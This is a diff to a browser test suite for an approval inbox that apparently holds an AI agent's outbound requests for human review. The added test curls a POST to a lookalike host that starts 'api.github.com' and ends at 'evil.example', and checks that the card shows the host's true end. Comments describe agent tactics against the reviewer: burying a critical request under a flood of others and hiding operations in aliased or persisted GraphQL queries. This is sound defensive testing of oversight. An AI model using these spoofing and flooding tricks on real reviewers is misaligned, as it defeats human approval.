@@ -7,6 +7,7 @@
 import t from 'tap';
 import fs from 'node:fs';
 import path from 'node:path';
+import { execFile } from 'node:child_process';
 import zlib from 'node:zlib';
 import type { Page } from 'playwright-core';
 import { GUARD_MS, look as lookAt, openInbox, startLiveAirlock } from './helpers.ts';
@@ -564,7 +565,13 @@ t.test('a long name cannot push its end past the edge of the card', async (t) =>
   await reply;
 });
 
-t.test('a critical request behind a dozen others is one click away; GraphQL operations are on the card; buttons name their request (eleventh pass)', async (t) => {
+t.test('a critical request behind a dozen others is one click away; GraphQL operations are on the card; buttons name their request; a long host shows its end (eleventh pass)', async (t) => {
+  // A host whose start reads as GitHub's and whose end, past a wrap or a cut, is the attacker's.
+  const longHost = `api.github.com.${'a'.repeat(60)}.${'b'.repeat(60)}.evil.example`;
+  const { token } = await airlock.agents.add('bot-long');
+  const far = new Promise((r) => execFile('curl', ['-sS', '--max-time', '60', '-x', airlock.proxyUrl('bot-long', token), '-d', '{}', `http://${longHost}/v1/long`], () => r(undefined)));
+  const longCard = card(page, '/v1/long');
+  await longCard.waitFor();
   // An agent floods the inbox with a dozen held writes, then sends what it wants: the critical card is
   // the thirteenth, far below the window, while the person works through the top of the list.
   const flood = Array.from({ length: 12 }, (_, i) => curl('POST', `/v1/flood-${i}`, { body: '{}' }));
@@ -595,9 +602,14 @@ t.test('a critical request behind a dozen others is one click away; GraphQL oper
   t.match(gql, /mutation \(deleteRepository\)/, 'the aliased mutation is named by the field it runs');
   t.match(gql, /query \(viewer\)/);
   t.match(await card(page, '/v1/apq/graphql').locator('[data-testid=graphql-unreadable]').textContent(), /persisted queries are not visible/, 'a persisted query says what runs is not in the request');
+  t.equal(await longCard.locator('.url .host-end').textContent(), 'evil.example', 'the card draws the end of the host apart');
+  t.equal(await longCard.locator('.url').textContent(), `POST http://${longHost}/v1/long`, 'the URL line is the whole URL');
+  const link = await summary.locator(`[data-jump="${await longCard.getAttribute('data-approval')}"]`).textContent();
+  t.match(link, /…[ab]*\.?evil\.example\/v1\/long$/, 'the one-line link keeps the end of the host, not its start');
+  t.notMatch(link, /api\.github\.com/);
   await page.screenshot({ path: path.join(artifacts, '30-approval-flood-summary.png') });
   for (const a of queue.list({ status: 'pending' })) await queue.deny(a.id, { by: 'test' });
-  await Promise.all([...flood, critical, batch, persisted]);
+  await Promise.all([...flood, critical, batch, persisted, far]);
 });
 
 t.test('escaped and encoded bodies and URLs are shown as the server reads them, with every header sent, or approving is a choice', async (t) => {
